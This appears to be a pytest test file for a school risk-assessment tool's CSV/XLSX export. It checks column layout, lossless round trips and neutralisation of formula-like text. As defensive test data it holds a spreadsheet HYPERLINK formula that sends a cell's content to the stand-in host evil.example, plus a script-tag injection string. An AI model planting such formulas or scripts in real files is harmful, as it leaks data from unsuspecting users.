"""`riskkit export`: the flat results table as CSV/XLSX, formula-like text neutralised, and the lossless round trip."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from datetime import date
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import riskkit
from riskkit.model.assessment import SchoolAssessment, read_school
from riskkit.model.district import RESULT_COLUMNS, District
from riskkit.sheets.export import export_bytes, neutralise
from riskkit.sheets.intake import read_files

from conftest import SAMPLE, TODAY, run_cli

def extra_columns(district: District) -> list[str]:
    """The input columns export adds to `District.results()`, in order: school details, platform, DSFA, per risk."""
    cat = district.catalogue
    return [
        "assessed_by", "catalogue_version",
        *(f"platform_{k}" for k in ("hosting", "operation", "running_since", "pupils", "staff", "extra_data", "modules")),
        *(f"module_{m.id}_{k}" for m in cat.modules for k in ("legal_basis", "groups")),
        *(c for t in cat.threshold_criteria for c in (f"threshold_{t.id}", f"threshold_{t.id}_reason")),
        *(f"question_{q.id}_{k}" for q in cat.questions for k in ("status", "text")),
        *(f"view_{c}_{k}" for c in ("parents", "pupils", "staff") for k in ("sought", "on", "summary", "reason")),
        *(f"advice_{k}" for k in ("by", "on", "opinion", "text")),
        *(f"decision_{k}" for k in ("by", "on", "outcome", "conditions")),
        "severity_raise_level", "severity_raise_reason", "override_likelihood", "override_severity", "override_reason",
        "accepted_reason", "advice_proposed",
        *(f"partial_{n}_{part}" for n in range(1, 6) for part in ("measure", "scope")),
        *(f"planned_{n}_{part}" for n in range(1, 6) for part in ("measure", "owner", "due", "note")),
    ]


def csv_rows(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.fixture(scope="module")
def sample() -> District:
    return riskkit.load_district(SAMPLE)


def test_csv_export_is_the_results_table_with_the_input_columns_added(sample):
    rows = csv_rows(export_bytes(sample, "csv", TODAY, lang="en"))
    assert list(rows[0]) == RESULT_COLUMNS + ["status", "blockers"] + extra_columns(sample)
    assert len(rows) == 12 * 22
    row = next(r for r in rows if (r["school_id"], r["risk_id"]) == ("bbs-gesundheit-soziales", "vc-content-exposure"))
    assert row["measures_in_place"] == "usage-rules, vc-content-deletion"
    assert row["measures_planned"] == "rights-concept"
    assert (row["planned_1_measure"], row["planned_1_owner"], row["planned_1_due"], row["planned_1_note"]) == (
        "rights-concept", "David Schulz (Plattform-Admin)", "2027-01-15", "Bildschirmfreigabe nur noch für Lehrkräfte")
    # catalogue 1.1.0: severity 3 (no rule raises it at this school), likelihood 3: 3 + 3 = 6 is high
    assert sample.catalogue.risk("vc-content-exposure").severity == 3
    assert (row["likelihood"], row["severity"], row["inherent_level"], row["assessed"]) == ("3", "3", "high", "true")
    assert (row["status"], row["blockers"]) == ("complete", "Stellungnahme der/des DSB fehlt")
    assert (row["platform_hosting"], row["module_video-conference_legal_basis"]) == ("cloud", "consent")  # the school on the vend's cloud
    assert (row["assessed_on"], row["next_review"], row["review_overdue"]) == ("2026-08-27", "2027-08-27", "false")
    override = next(r for r in rows if (r["school_id"], r["risk_id"]) == ("gym-am-schlosspark", "vc-recording"))
    assert (override["override_likelihood"], override["override_severity"], override["overridden"]) == ("1", "3", "true")
    assert override["override_reason"].startswith("In allen Räumen sind Schülerkameras")
    open_rows = [r for r in rows if r["school_id"] == "gs-kleeblatt" and r["assessed"] == "false"]
    assert len(open_rows) == 7  # three risks left open and four new in catalogue 1.1.0 (see the school file)
    assert {r["likelihood"] + r["reason"] + r["residual_level"] + r["planned_1_measure"] for r in open_rows} == {""}


@pytest.mark.parametrize("text,expected", [
    ("=HYPERLINK(\"http://evil.example\")", "'=HYPERLINK(\"http://evil.example\")"),
    ("+49 30 1234", "'+49 30 1234"),
    ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("'quoted", "''quoted"),
    ("Schulleitung = Admin", "Schulleitung = Admin"),
])
def test_neutralise_prefixes_an_apostrophe_to_formula_like_text(text, expected):
    assert neutralise(text) == expected


HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")"
SCRIPT = "<script>alert('x')</script> & <b>fett</b>"


@pytest.fixture
def hostile_district(district_dir) -> District:
    district = riskkit.load_district(district_dir)
    school = district.school("gs-kleeblatt")
    entry = school.risks["identity-theft"].model_copy(update={"reason": HOSTILE})
    changed = school.model_copy(update={"assessed_by": SCRIPT, "risks": {**school.risks, "identity-theft": entry}})
    district.save_school(SchoolAssessment.model_validate(changed.model_dump()))
    return riskkit.load_district(district_dir)


def test_csv_export_neutralises_formulas_and_keeps_html_as_text(hostile_district):
    rows = csv_rows(export_bytes(hostile_district, "csv", TODAY), ";")  # German: German headers
    row = next(r for r in rows if (r["Schul-ID"], r["Risiko-ID"]) == ("gs-kleeblatt", "identity-theft"))
    assert row["Begründung der Eintrittswahrscheinlichkeit"] == "'" + HOSTILE
    assert row["Bewertet von"] == SCRIPT
    starts = {v[0] for r in rows for v in r.values() if v}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


def test_xlsx_export_stores_formula_like_text_as_text(hostile_district, tmp_path):
    data = export_bytes(hostile_district, "xlsx", TODAY, lang="en")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    (tmp_path / "x.xlsx").write_bytes(data)
    sheet = load_workbook(tmp_path / "x.xlsx")["results"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if (r[0].value, r[3].value) == ("gs-kleeblatt", "identity-theft"))
    reason = row[header.index("reason")]
    assert (reason.value, reason.data_type) == (HOSTILE, "s")
    assert row[header.index("assessed_by")].value == SCRIPT
    assert row[header.index("likelihood")].value == 2
    assert row[header.index("assessed_on")].value.date() == date(2026, 9, 22)
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_xlsx_export_keeps_control_characters_and_cr_with_excel_escapes(district_dir, tmp_path):
    district = riskkit.load_district(district_dir)
    school = district.school("gs-kleeblatt")
    tricky = "Anna\x01Berg\r\nZeile _x0041_ bleibt"
    district.save_school(school.model_copy(update={"assessed_by": tricky}))
    district = riskkit.load_district(district_dir)
    data = export_bytes(district, "xlsx", TODAY)
    assert "Anna_x0001_Berg_x000D_\nZeile _x005F_x0041_ bleibt" in zipfile.ZipFile(io.BytesIO(data)).read(
        "xl/worksheets/sheet1.xml").decode()
    (tmp_path / "x.xlsx").write_bytes(data)
    intake = read_files([tmp_path / "x.xlsx"], district)
    imported = {i.assessment.school.id: i.assessment for i in intake.imported}
    assert imported["gs-kleeblatt"].assessed_by == tricky
    assert imported == district.schools


def test_cli_export_writes_to_reports_by_default(district_dir, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run_cli("export", district_dir, "--format", "xlsx", "--today", "2026-11-23")
    assert result.exit_code == 0, result.output
    target = Path("reports") / "sample-district" / "sample-district-results.xlsx"
    assert result.output == f"geschrieben: {target}\n"
    assert len(list(load_workbook(tmp_path / target, read_only=True)["Ergebnisse"].iter_rows())) == 1 + 12 * 22


def test_cli_export_csv_to_a_named_file(district_dir, tmp_path):
    result = run_cli("export", district_dir, "--format", "csv", "-o", tmp_path / "out.csv", "--today", "2026-11-23")
    assert result.exit_code == 0, result.output
    expected = export_bytes(riskkit.load_district(district_dir), "csv", TODAY)
    assert csv_rows((tmp_path / "out.csv").read_bytes(), ";") == csv_rows(expected, ";")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_sample_district_round_trips_through_export_and_import(sample, tmp_path, fmt):
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(export_bytes(sample, fmt, TODAY))
    intake = read_files([path], sample)
    assert intake.problems == [] and intake.rejected == []
    assert {i.assessment.school.id: i.assessment for i in intake.imported} == sample.schools
    for item in intake.imported:  # the same content; keys of a mapping may come in catalogue order
        assert yaml.safe_load(item.assessment.to_yaml()) == yaml.safe_load(sample.schools[item.assessment.school.id].to_yaml())


# --- property-based: any valid school file survives YAML -> export -> import -> YAML ---------------------------------

SAMPLE_DISTRICT = riskkit.load_district(SAMPLE)  # a module global, so hypothesis does not print it on failure
CATALOGUE = SAMPLE_DISTRICT.catalogue
# any text but NUL (a CSV holding NUL reads as a binary file) and lone surrogates (not Unicode text)
TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=40)
LINE = TEXT.filter(lambda s: s.strip())
NOTE = st.none() | LINE  # a blank note is no note: it reads back as none
LEVEL = st.integers(1, 4)


@st.composite
def assessments(draw) -> SchoolAssessment:
    risks, residual, accepted = {}, {}, {}  # in catalogue order: one row per catalogue risk, in that order
    chosen = draw(st.sets(st.sampled_from([r.id for r in CATALOGUE.risks]), max_size=5))
    for risk in (r for r in CATALOGUE.risks if r.id in chosen):
        ids = [m.id for m in CATALOGUE.measures_for(risk.id)]
        in_place = draw(st.lists(st.sampled_from(ids), unique=True))
        planned = draw(st.lists(st.sampled_from([i for i in ids if i not in in_place] or ["-"]), unique=True))
        risks[risk.id] = {
            "likelihood": draw(LEVEL), "reason": draw(LINE),
            # some measures only in part, with their scope in words
            "measures_in_place": [{"measure": m, "partial": draw(LINE)} if draw(st.booleans()) else m for m in in_place],
            "measures_planned": [
                {"measure": m, "owner": draw(LINE), "due": draw(st.dates()).isoformat(), "note": draw(NOTE)}
                for m in planned if m != "-"
            ],
        }
        if risk.severity < 4 and draw(st.booleans()):  # the school raises the severity, with its reason
            risks[risk.id]["severity"] = {"level": draw(st.integers(risk.severity + 1, 4)), "reason": draw(LINE)}
        if override := draw(st.none() | st.fixed_dictionaries({"likelihood": LEVEL, "severity": LEVEL, "reason": LINE})):
            residual[risk.id] = override
        if draw(st.booleans()):
            accepted[risk.id] = draw(LINE)
    school_id = draw(st.from_regex(r"[a-z0-9]([a-z0-9_-]{0,20}[a-z0-9])?", fullmatch=True).filter(lambda i: i not in ("con", "nul", "aux", "prn")))
    return SchoolAssessment.model_validate({
        "school": {"id": school_id, "name": draw(LINE), "kind": draw(st.sampled_from(["primary", "grammar", "other"]))},
        "assessed_on": draw(st.dates()).isoformat(), "assessed_by": draw(LINE),
        "catalogue_version": draw(st.none() | st.just("1.0.0")), "risks": risks,
        "dsfa": {"decision": {"residual": residual, "accepted": accepted}},
    })


@pytest.mark.parametrize("fmt,lang", [("csv", "de"), ("csv", "en"), ("xlsx", "de")])
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(assessment=assessments())
def test_any_school_file_round_trips_through_export_and_import(tmp_path, fmt, lang, assessment):
    sample = SAMPLE_DISTRICT
    tmp_path = Path(tempfile.mkdtemp(dir=tmp_path))  # hypothesis shares tmp_path between examples: a folder of its own
    schools = tmp_path / "schools"
    path = riskkit.save_school(assessment, schools, sample.catalogue)
    from_yaml, problems = read_school(path, sample.catalogue)
    assert problems == []
    district = District(tmp_path, sample.config, sample.catalogue, sample.matrix, {assessment.school.id: from_yaml})
    export = tmp_path / f"export.{fmt}"
    export.write_bytes(export_bytes(district, fmt, TODAY, lang))
    intake = read_files([export], district)
    assert intake.problems == []
    assert [i.assessment for i in intake.imported] == [from_yaml]
    # the school file import would write is the one read; (the foundation's own YAML writer turns a NEL, U+0085,
    # into a space on reading back, so the comparison is with the file as read, not as first written)
    assert intake.imported[0].assessment.to_yaml() == from_yaml.to_yaml()
